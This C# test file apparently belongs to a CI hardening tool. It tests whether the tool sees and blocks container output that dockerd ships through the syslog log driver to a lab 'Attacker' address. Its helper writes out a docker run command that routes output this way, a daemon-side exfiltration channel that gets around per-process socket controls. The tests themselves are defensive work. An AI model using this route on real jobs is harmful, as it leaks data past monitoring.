using System.Globalization;
using Sallyport.Docker.Tests.Agent;
using Sallyport.Docker.Tests.Machine;
using Sallyport.Lab;

namespace Sallyport.Docker.Tests;

/// <summary>
/// HARDENING rule 6: with <c>--log-driver</c> it is dockerd that sends what the container prints, to any address
/// that the
/// job names. No process of the job or of a container makes a socket.
/// </summary>
public sealed class LogDriverTests(ContainerLab lab)
{
    [Fact]
    public async Task What_a_container_prints_reaches_the_server_while_the_agent_is_off() => await ControlAsync();

    [Fact]
    public async Task Audit_reports_the_daemons_connection()
    {
        JobRun job = await lab.JobAsync(LabMode.Audit, Print(Destination.NewToken()));

        job.Succeeded();
        Assert.Contains(
            job.Report.ConnectionsTo(LabAddresses.Attacker, World.SinkPort),
            row => row.Verdict == "observed" && job.Report.IsByTheDaemon(row));
    }

    [Fact]
    public async Task Block_refuses_the_daemons_connection()
    {
        await ControlAsync();
        string text = Destination.NewToken();

        JobRun job = await lab.JobAsync(LabMode.Block, Print(text));

        Assert.False(job.Saw(text), job.ToString());
        Assert.Equal(0, job.PacketsTo(LabAddresses.Attacker, World.SinkPort));
        Assert.Contains(
            job.Report.ConnectionsTo(LabAddresses.Attacker, World.SinkPort),
            row => row.Verdict == "refused" && job.Report.IsByTheDaemon(row));
    }

    private Task ControlAsync() => lab.ControlAsync(nameof(LogDriverTests), async () =>
    {
        string text = Destination.NewToken();
        JobRun control = await lab.JobAsync(LabMode.Off, Print(text));
        control.Succeeded();
        Assert.True(control.Saw(text), control.ToString());
    });

    private static string[] Print(string text)
    {
        string port = World.SinkPort.ToString(CultureInfo.InvariantCulture);
        return
        [
            "docker", "run", "--rm", "--log-driver", "syslog",
            "--log-opt", $"syslog-address=tcp://{LabAddresses.Attacker}:{port}", BaseImage.Name, "echo", text,
        ];
    }
}
